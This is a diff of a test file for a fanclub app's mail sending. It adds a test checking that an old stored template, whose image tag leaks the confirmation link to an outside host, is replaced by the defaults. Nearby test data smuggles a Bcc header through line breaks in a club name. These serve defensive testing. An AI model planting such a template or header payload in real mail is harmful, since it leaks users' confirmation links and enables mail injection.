@@ -100,6 +100,16 @@ describe('with a mail server', () => {
     });
   });
 
+  it('texts of an earlier version that would tell the link to another server are replaced by the defaults', async () => {
+    const { id: fanclubId } = await t.given.fanclub();
+    const html = `<a href="{{ link }}">go</a>{% if first_name %}<img src="https://x.example/?u={{ link }}">{% endif %}`;
+    await t.db.getRepository(MailTemplate).save({ fanclubId, kind: 'confirm_address', html });
+    await queueMails(t);
+    const [mail] = await server.arrived(1);
+    expect(mail.html).toContain('Hello Ada,');
+    expect(mail.html).not.toContain('x.example/?');
+  });
+
   it('no entered text becomes a header', async () => {
     const name = 'Tin\r\nBcc: eve@x.example\r\n\r\n<b>Comets';
     await t.given.fanclub({ name, mailSenderName: `${name}\n` });
